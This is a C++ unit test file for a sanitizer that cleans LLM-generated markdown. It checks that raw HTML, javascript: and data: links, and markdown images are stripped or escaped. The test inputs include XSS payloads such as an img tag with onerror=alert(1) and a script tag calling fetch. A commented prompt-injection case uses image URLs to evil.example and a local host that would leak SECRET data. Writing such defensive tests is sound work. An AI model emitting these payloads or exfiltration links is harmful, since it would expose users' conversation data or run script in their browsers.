#include "llm/markdown_sanitizer.h"

#include <gtest/gtest.h>

namespace sanad::llm {
namespace {

bool contains(const std::string& s, std::string_view what) {
  return s.find(what) != std::string::npos;
}

TEST(MarkdownSanitizerTest, PlainMarkdownIsUnchanged) {
  std::string md = "# Titre\n\n- **gras** et *italique* [1]\n- a > b\n\n1. un\n";
  EXPECT_EQ(sanitize_markdown(md), md);
}

TEST(MarkdownSanitizerTest, RawHtmlIsEscaped) {
  std::string out = sanitize_markdown("Bonjour <img src=x onerror=alert(1)> <script>fetch('//e')</script>");
  EXPECT_FALSE(contains(out, "<img"));
  EXPECT_FALSE(contains(out, "<script"));
  EXPECT_EQ(out, "Bonjour &lt;img src=x onerror=alert(1)> &lt;script>fetch('//e')&lt;/script>");
  EXPECT_EQ(sanitize_markdown("\\<b>"), "&lt;b>");
}

TEST(MarkdownSanitizerTest, ImageExfiltrationIsRemoved) {
  // A prompt injection asking the model to leak the conversation in an image URL.
  std::string out = sanitize_markdown(
      "Voici la réponse [1].\n"
      "![chargement](http://127.0.0.2:8765/leak?q=SECRET_SALARY)\n"
      "![x](<https://evil.example/a b> \"t\") et ![ref image][img] et ![img]\n"
      "[![badge](https://evil.example/b.png)](https://evil.example)\n\n"
      "[img]: https://evil.example/ref.png?d=SECRET\n");
  EXPECT_FALSE(contains(out, "127.0.0.2"));
  EXPECT_FALSE(contains(out, "SECRET"));
  EXPECT_FALSE(contains(out, "b.png"));
  EXPECT_FALSE(contains(out, "!["));
  EXPECT_TRUE(contains(out, "Voici la réponse [1]."));
  EXPECT_TRUE(contains(out, "https://evil.example\n"));  // the link stays visible
}

TEST(MarkdownSanitizerTest, LinksShowTheirDestinationAndOnlySafeSchemesSurvive) {
  EXPECT_EQ(sanitize_markdown("Voir [le guide](https://intranet.example/guide)."),
            "Voir le guide (https://intranet.example/guide).");
  EXPECT_EQ(sanitize_markdown("[https://a.example](https://a.example)"), "https://a.example");
  EXPECT_EQ(sanitize_markdown("[écrire](mailto:rh@example.org)"), "écrire (mailto:rh@example.org)");
  EXPECT_EQ(sanitize_markdown("[clic](javascript:alert(document.cookie))"), "clic");
  EXPECT_EQ(sanitize_markdown("[clic]( JaVaScRiPt:alert(1))"), "clic");
  EXPECT_EQ(sanitize_markdown("[x](data:text/html;base64,PHNjcmlwdD4=)"), "x");
  EXPECT_EQ(sanitize_markdown("[x](/api/admin/delete)"), "x");
  EXPECT_EQ(sanitize_markdown("<javascript:alert(1)>"), "&lt;javascript:alert(1)>");
  SanitizeOptions keep;
  keep.keep_link_markup = true;
  EXPECT_EQ(sanitize_markdown("[a](https://x.example/p(1))", keep), "[a](https://x.example/p%281%29)");
}

TEST(MarkdownSanitizerTest, ReferenceLinksAreResolvedAndDefinitionsDropped) {
  std::string out = sanitize_markdown(
      "Lire [la note][n] et [ceci][bad].\n\n[n]: https://a.example/note\n[bad]: javascript:x\n");
  EXPECT_EQ(out, "Lire la note (https://a.example/note) et ceci.\n\n");
}

TEST(MarkdownSanitizerTest, CitationsAreNeverTurnedIntoLinks) {
  std::string out = sanitize_markdown("Réponse [1].\n\n[1]: https://evil.example/?q=leak\n");
  EXPECT_EQ(out, "Réponse [1].\n\n");
}

TEST(MarkdownSanitizerTest, CodeIsLeftAsIs) {
  std::string md = "Utilisez `<div>` ou :\n```html\n<img src=\"x\">\n![a](http://e)\n```\nfin <b>\n";
  EXPECT_EQ(sanitize_markdown(md),
            "Utilisez `<div>` ou :\n```html\n<img src=\"x\">\n![a](http://e)\n```\nfin &lt;b>\n");
}

}  // namespace
}  // namespace sanad::llm
